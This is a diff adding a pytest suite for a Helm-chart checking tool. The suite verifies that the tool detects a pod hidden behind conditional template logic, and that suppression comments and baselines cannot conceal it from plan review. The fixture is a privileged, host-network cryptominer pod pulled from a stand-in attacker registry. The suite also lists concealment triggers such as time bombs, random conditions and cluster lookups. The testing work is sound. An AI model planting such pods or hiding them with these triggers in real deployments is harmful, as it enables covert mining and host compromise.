@@ -1,0 +1,136 @@
+"""A chart hides nothing from ``check`` and from the review of ``plan --base`` by asking where it is rendered."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from tests.support import layouts
+
+from hanbae.actions import new_service
+from hanbae.cli import main
+
+Run = Callable[..., tuple[int, str]]
+TEMPLATES = "services/auth/helm/templates"
+POD = """
+apiVersion: v1
+kind: Pod
+metadata: {name: miner}
+spec:
+  hostNetwork: true
+  containers: [{name: app, image: "evil.example.com/miner:latest", securityContext: {privileged: true}}]
+"""
+# Condition under which the pod is there → codes that say so: either what it is, or that nobody knows whether it is.
+HIDDEN: dict[str, set[str]] = {
+    'semverCompare ">=4.3.0" .Capabilities.HelmVersion.Version': {"KUB001", "INP007"},
+    'semverCompare "<4.3.0" .Capabilities.HelmVersion.Version': {"INP007"},
+    'ne .Capabilities.KubeVersion.Version "v1.35.0"': {"INP007"},
+    'semverCompare ">=1.35.1" .Capabilities.KubeVersion.GitVersion': {"INP007"},
+    '.Capabilities.APIVersions.Has "argoproj.io/v1alpha1/Rollout"': {"INP008"},
+    'not (.Capabilities.APIVersions.Has "argoproj.io/v1alpha1/Rollout")': {"INP008"},
+    'gt (now | date "2006" | int) 2030': {"ARG029"},
+    "eq (randInt 0 1000) 7": {"ARG029"},
+    'hasPrefix "a" (uuidv4)': {"ARG029"},
+    'lookup "v1" "Namespace" "" "kube-system"': {"ARG030"},
+    'not (lookup "v1" "Namespace" "" "")': {"ARG030"},
+    ".Release.IsUpgrade": {"ARG030"},
+    "gt .Release.Revision 1": {"ARG030"},
+}
+
+
+def git(root: Path, *words: str) -> None:
+    identity = ("-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false")
+    subprocess.run(["git", *identity, *words], cwd=root, check=True, capture_output=True)
+
+
+@pytest.fixture
+def shop(tmp_path: Path) -> Path:
+    layouts.begin(tmp_path, "one-cluster")
+    new_service.new_service(tmp_path, "auth")
+    git(tmp_path, "init", "-q")
+    commit(tmp_path)
+    return tmp_path
+
+
+def commit(root: Path) -> None:
+    git(root, "add", "--all")
+    git(root, "commit", "-qm", "x")
+
+
+@pytest.fixture
+def run(shop: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Run:
+    monkeypatch.setenv("COLUMNS", "400")
+
+    def run(*arguments: str) -> tuple[int, str]:
+        capsys.readouterr()
+        code = main.run(["--lang", "en", "-C", str(shop), *arguments])
+        return code, capsys.readouterr().out
+
+    return run
+
+
+def hide(shop: Path, condition: str) -> None:
+    path = shop / TEMPLATES / "hidden.yaml"
+    path.write_text(f"{{{{- if {condition} }}}}{POD}{{{{- end }}}}\n")
+    commit(shop)
+
+
+@pytest.mark.parametrize("condition", HIDDEN)
+def test_what_is_hidden_is_found_by_check_and_shown_by_plan(
+    shop: Path, run: Run, condition: str
+) -> None:
+    hide(shop, condition)
+    _, out = run("check", "--no-cache", "--env", "dev", "--output", "json")
+    codes = {
+        finding["code"]
+        for finding in json.loads(out)["findings"]
+        if "hidden.yaml" in finding["place"]["file"]
+    }
+    assert codes & HIDDEN[condition], codes
+    _, out = run("plan", "auth", "--base", "HEAD~1", "--head", "HEAD", "--env", "dev")
+    assert "Nothing differs" not in out
+    assert "hidden.yaml" in out or "miner" in out
+
+
+def with_a_comment(shop: Path, run: Run, codes: str) -> None:
+    path = shop / TEMPLATES / "hidden.yaml"
+    path.write_text(f"{{{{/* hanbae: ignore {codes} it is meant so */}}}}\n{path.read_text()}")
+
+
+def with_a_baseline(shop: Path, run: Run, codes: str) -> None:
+    assert run("check", "--write-baseline")[0] == 0
+
+
+@pytest.mark.parametrize("accept", [with_a_comment, with_a_baseline], ids=lambda way: way.__name__)
+@pytest.mark.parametrize(
+    ("condition", "code"),
+    [
+        ('ne .Capabilities.KubeVersion.Version "v1.35.0"', "INP007"),
+        ("eq (randInt 0 1000) 7", "ARG029"),
+    ],
+)
+def test_a_branch_cannot_accept_for_its_reviewer_what_it_hides(
+    shop: Path, run: Run, condition: str, code: str, accept: Callable[[Path, Run, str], None]
+) -> None:
+    hide(shop, condition)
+    accept(shop, run, code)
+    commit(shop)
+    assert "hidden.yaml" not in run("check", "--no-cache")[1]
+    _, out = run("plan", "auth", "--base", "HEAD~2", "--head", "HEAD")
+    assert "hidden.yaml" in out
+    assert "Nothing differs" not in out
+
+
+def test_a_hidden_pod_is_judged_as_one_that_is_there(shop: Path, run: Run) -> None:
+    hide(shop, '.Capabilities.APIVersions.Has "argoproj.io/v1alpha1/Rollout"')
+    code, out = run("check", "--no-cache", "--output", "json")
+    found = {finding["code"] for finding in json.loads(out)["findings"]}
+    assert code == 1
+    hide(shop, "true")
+    assert found >= {
+        finding["code"]
+        for finding in json.loads(run("check", "--no-cache", "--output", "json")[1])["findings"]
+    }
